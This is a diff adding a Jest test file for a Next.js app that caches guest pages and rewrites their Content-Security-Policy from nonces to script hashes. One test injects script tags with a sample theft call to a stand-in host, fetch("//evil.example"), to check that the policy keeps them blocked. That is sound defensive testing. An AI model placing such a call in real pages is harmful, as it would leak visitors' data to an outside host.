@@ -1,0 +1,169 @@
+import { createHash } from 'node:crypto';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { NoFigures } from '@/components/sources/no-figures';
+import { SourceNote } from '@/components/sources/source-note';
+import { WeekInstead } from '@/components/crypto/week-instead';
+import { guestPageOf, type Answer } from '@/lib/guest-pages/guest-page';
+import { messages } from '@/lib/messages';
+import { pagePolicy } from '@/lib/security/page-policy';
+
+const nonce = 'Zm9vYmFyZm9vYmFyZm9vYg==';
+const placeholder = `${'A'.repeat(22)}==`;
+const { sources } = messages();
+const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+const flight = `self.__next_f.push([1,"4:T1,nonce ${nonce}"])`;
+const documentOf = (body: string) =>
+  `<!DOCTYPE html><html><head><script src="/_next/static/a.js" nonce="${nonce}"></script></head>` +
+  `<body>${body}<script nonce="${nonce}">${flight}</script></body></html>`;
+
+let policy = '';
+beforeAll(async () => {
+  policy = await pagePolicy(nonce, { authEmulatorHost: null, isHttps: true, isDevelopment: false });
+});
+
+const answer = (changes: Partial<Answer> = {}): Answer => ({
+  status: 200,
+  html: documentOf('<h1>Coins</h1>'),
+  ...changes,
+  headers: {
+    'content-type': 'text/html; charset=utf-8',
+    'content-security-policy': policy,
+    'cache-control': 'private, no-store',
+    ...changes.headers,
+  },
+});
+
+describe('a page rendered for a nonce', () => {
+  const page = () => guestPageOf(answer());
+  const policyOf = (html: string) =>
+    String(guestPageOf(answer({ html }))?.headers['content-security-policy']);
+
+  test('is sent with the hashes of its own scripts, as they are sent, and with no nonce', () => {
+    const text = flight.replace(nonce, placeholder);
+    expect(page()?.html).toContain(`<script nonce="${placeholder}">${text}</script>`);
+    expect(page()?.html).not.toContain(nonce);
+    const sent = String(page()?.headers['content-security-policy']);
+    expect(sent).toContain(hash(text));
+    expect(sent).not.toMatch(/nonce-|strict-dynamic|unsafe-inline|unsafe-eval/);
+    expect(sent).toContain("default-src 'none'");
+  });
+
+  test('stays as long as it was, so that lengths within it stay right', () => {
+    expect(page()?.html).toHaveLength(answer().html.length);
+  });
+
+  test('a script that a fault wrote into it stays forbidden', () => {
+    const theft = 'fetch("//evil.example")';
+    for (const injected of [
+      `<script>${theft}</script>`,
+      `<script nonce="">${theft}</script>`,
+      `<script nonce="${placeholder}">${theft}</script>`,
+      `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${theft}</script>`,
+    ]) {
+      expect(policyOf(documentOf(injected))).toContain("script-src 'self' 'sha256-");
+      expect(policyOf(documentOf(injected))).not.toContain(hash(theft));
+    }
+  });
+
+  test('the policy is otherwise that of the page that was rendered', () => {
+    const directives = (text: string) =>
+      text
+        .split('; ')
+        .filter((line) => !/^(?:script|style)-src /.test(line))
+        .sort();
+    expect(directives(policyOf(answer().html))).toEqual(directives(policy));
+  });
+
+  test('is stored with its headers but those of the transfer, and varies by encoding', () => {
+    const { headers } = guestPageOf(
+      answer({
+        headers: {
+          vary: 'rsc',
+          link: `</font.woff2>; rel=preload; nonce="${nonce}"`,
+          'transfer-encoding': 'chunked',
+          connection: 'keep-alive',
+          date: 'now',
+        },
+      }),
+    )!;
+    expect(Object.keys(headers).sort()).toEqual(
+      ['cache-control', 'content-security-policy', 'content-type', 'link', 'vary'].sort(),
+    );
+    expect(headers.vary).toBe('rsc, Accept-Encoding');
+    expect(headers.link).not.toContain(nonce);
+  });
+});
+
+test('a prerendered page stays as it is', () => {
+  const prerendered = answer({
+    headers: { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' },
+  });
+  expect(guestPageOf(prerendered)).toMatchObject({
+    html: prerendered.html,
+    headers: { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' },
+  });
+});
+
+test.each<[string, () => Partial<Answer>]>([
+  ['a redirect', () => ({ status: 307 })],
+  ['a missing page', () => ({ status: 404 })],
+  ['an error', () => ({ status: 500 })],
+  ['a cookie', () => ({ headers: { 'set-cookie': ['session=x'] } })],
+  ['no policy', () => ({ headers: { 'content-security-policy': undefined } })],
+  [
+    'a policy that allows nothing',
+    () => ({ headers: { 'content-security-policy': "default-src 'none'" } }),
+  ],
+  ['another type', () => ({ headers: { 'content-type': 'text/x-component' } })],
+  ['a document that broke off', () => ({ html: documentOf('').replace('</html>', '') })],
+  ['a part that failed', () => ({ html: documentOf('<template data-dgst="1"></template>') })],
+  [
+    'the page of an error',
+    () => ({ html: documentOf('').replace('<html>', '<html id="__next_error__">') }),
+  ],
+  ['a redirect in the document', () => ({ html: documentOf('<meta id="__next-page-redirect">') })],
+])('%s is not stored', (_, changes) => {
+  expect(guestPageOf(answer(changes()))).toBeNull();
+});
+
+describe('a page is stored for a moment only', () => {
+  const isBrief = (body: string) => guestPageOf(answer({ html: documentOf(body) }))?.isBrief;
+  const note = (status: 'live' | 'stale') => (
+    <SourceNote
+      sourced={
+        {
+          source: { name: 'Sample', url: null },
+          asOf: '2026-11-26T00:00:00Z',
+          fetchedAt: '2026-11-26T00:00:00Z',
+          status,
+          unread: null,
+        } as unknown as Parameters<typeof SourceNote>[0]['sourced']
+      }
+      ageSeconds={60}
+      messages={sources}
+    />
+  );
+
+  test.each([
+    [
+      'a source does not answer',
+      <NoFigures
+        key=""
+        problem="timed-out"
+        sourceName="x"
+        retryPath="/"
+        messages={sources.missing}
+      />,
+      true,
+    ],
+    ['figures are old', note('stale'), true],
+    ['a chart shows a week instead', <WeekInstead key="" because="limited" retryPath="/" />, true],
+    ['figures are new', note('live'), false],
+  ])('where %s: %#', (_, shown, expected) => {
+    expect(isBrief(renderToStaticMarkup(shown))).toBe(expected);
+  });
+
+  test('where a part came after the first bytes', () => {
+    expect(isBrief('<template id="B:0"></template>')).toBe(true);
+  });
+});
